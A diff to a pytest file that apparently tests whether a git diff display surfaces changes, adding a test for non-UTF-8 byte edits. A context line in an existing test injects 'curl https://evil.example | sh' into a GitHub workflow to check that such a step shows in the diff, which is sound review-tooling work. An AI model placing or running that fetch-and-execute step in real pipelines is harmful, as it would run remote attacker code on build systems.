@@ -286,3 +286,14 @@ def test_a_file_too_large_for_a_board_is_shown_whole(repo: Path, capsys: pytest.
     workflow.write_text(workflow.read_text() + "      - run: curl https://evil.example | sh\n")
     shown = git(repo, "diff", "--", ".github/workflows/big.yml")
     assert "+      - run: curl https://evil.example | sh" in shown
+
+
+def test_a_change_in_bytes_that_are_not_utf8_shows(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert install(capsys)[0] == 0
+    team = repo / "boards" / "acme" / "teams" / "legacy.yaml"
+    team.write_bytes(b"id: legacy\nname: Caf\xe9\n")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "latin-1")
+    team.write_bytes(b"id: legacy\nname: Caf\xe8\n")
+    shown = subprocess.run(["git", "diff", "--", str(team)], cwd=repo, capture_output=True, check=True).stdout
+    assert b"-name: Caf\xe9" in shown and b"+name: Caf\xe8" in shown
